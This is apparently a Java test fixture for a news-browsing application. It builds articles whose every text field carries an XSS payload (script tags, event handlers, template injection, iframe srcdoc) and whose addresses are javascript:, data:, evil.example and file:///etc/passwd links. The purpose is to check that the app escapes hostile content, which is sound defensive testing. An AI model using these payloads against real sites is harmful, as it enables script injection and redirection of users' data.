package news.dateline.browser;

import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import news.dateline.article.Actor;
import news.dateline.article.Article;
import news.dateline.article.Attribution;
import news.dateline.article.Capture;
import news.dateline.article.Dateline;
import news.dateline.article.Evidence;
import news.dateline.article.Findings;
import news.dateline.article.Outlet;
import news.dateline.article.Place;
import news.dateline.article.PlaceMention;
import news.dateline.article.Provenance;
import news.dateline.article.PublicationDate;
import news.dateline.article.Quotation;
import news.dateline.article.Span;
import news.dateline.article.Version;

/**
 * Articles by somebody who wants to run a script in the reader's browser: one for each attack, with
 * the attack in every place where an article has words. Each attack sets {@code window.pwned} or
 * asks for something elsewhere when it succeeds.
 */
final class HostileArchive {
  /** What is tried as words. */
  static final List<String> ATTACKS =
      List.of(
          "<script>window.pwned=1</script>",
          "\"><img src=x onerror=window.pwned=1>",
          "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1' x='",
          "</script><script>window.pwned=1</script>",
          "</title></style></textarea><svg onload=window.pwned=1>",
          "-->]]><script>window.pwned=1</script><!--",
          "${window.pwned=1}`${window.pwned=1}`{{constructor.constructor('window.pwned=1')()}}",
          "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e\\",
          "&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;img src=x onerror=window.pwned=1&#62;",
          "javascript:window.pwned=1",
          "data:text/html,<script>parent.pwned=1</script>",
          "<a href=\"javascript:window.pwned=1\">read more</a>",
          "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
          "<base href=\"http://evil.example/\"><link rel=stylesheet href=//evil.example/a.css>",
          "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
          "<style>*{display:none;background:url(http://evil.example/)}</style>",
          "<form action=http://evil.example/><button autofocus>Search</button>",
          "__proto__ constructor toString",
          "\u202Egnp.elif\u2066 \u2028\u2029 \uFEFF\uD83D\uDE00 \uFFFE e\u0301\u0323",
          "W".repeat(400));

  /** What is tried as an address; none of them may become a link to anything but http and https. */
  static final List<String> ADDRESSES =
      List.of(
          "javascript:window.pwned=1",
          "JaVaScRiPt:window.pwned=1//http://news.example/",
          " \tjavascript:window.pwned=1",
          "java\nscript:window.pwned=1",
          "data:text/html,<script>window.pwned=1</script>",
          "vbscript:window.pwned=1",
          "view-source:http://evil.example/",
          "//evil.example/",
          "/\\evil.example/",
          "http://news.example/\"onmouseover=\"window.pwned=1",
          "https://news.example/'><script>window.pwned=1</script>",
          "file:///etc/passwd");

  private HostileArchive() {}

  /** The articles. */
  static List<Article> articles() {
    List<Article> articles = new ArrayList<>();
    for (int i = 0; i < ATTACKS.size(); i++) {
      articles.add(article(i, ATTACKS.get(i), ADDRESSES.get(i % ADDRESSES.size())));
    }
    return articles;
  }

  private static Article article(int number, String attack, String address) {
    String id = String.format(Locale.ROOT, "hostile%019d", number);
    String title = attack + " harbour";
    String body = "Harbour news. \"" + attack + "\", said " + attack + " on Tuesday.";
    int said = body.indexOf(attack);
    int speaker = body.lastIndexOf(attack);
    Evidence evidence = new Evidence.Metadata(attack);
    Actor actor = new Actor(attack, Actor.Kind.PERSON, Optional.of(attack), List.of(attack));
    Outlet outlet = new Outlet(attack, evidence);
    Place place =
        new Place(attack, attack, Optional.of("it"), Optional.of(attack), Optional.empty());
    Quotation quotation =
        new Quotation(
            List.of(Span.body(said, said + attack.length())),
            Quotation.Type.DIRECT,
            new Attribution(
                Optional.of(Span.body(speaker, speaker + attack.length())),
                Optional.empty(),
                List.of(actor),
                List.of(actor),
                Optional.of(actor)),
            Quotation.LinkedBy.CUE,
            0.9);
    Findings findings =
        new Findings(
            Optional.of("en"),
            Optional.of(outlet),
            Optional.of(
                PublicationDate.of(
                    LocalDate.of(2025, 1, 1 + number), PublicationDate.Precision.DAY, evidence)),
            Optional.of(new Dateline(attack, Optional.of(attack), Optional.of("it"), evidence)),
            List.of(new PlaceMention(Span.body(speaker, speaker + attack.length()), place)),
            List.of(quotation),
            List.of(actor),
            List.of(outlet),
            true);
    return new Article(
        id,
        provenance(attack, address),
        Map.of(attack, attack, "url", address),
        title,
        Optional.of(attack),
        body,
        findings);
  }

  private static Provenance provenance(String attack, String address) {
    Optional<Instant> time = Optional.of(Instant.parse("2025-02-01T10:00:00Z"));
    return new Provenance(
        List.of(
            new Capture(
                attack, 0, Optional.of(attack), Optional.of(address), time, time, "1".repeat(64))),
        List.of(new Version("2".repeat(64), time, time, attack, attack)));
  }
}
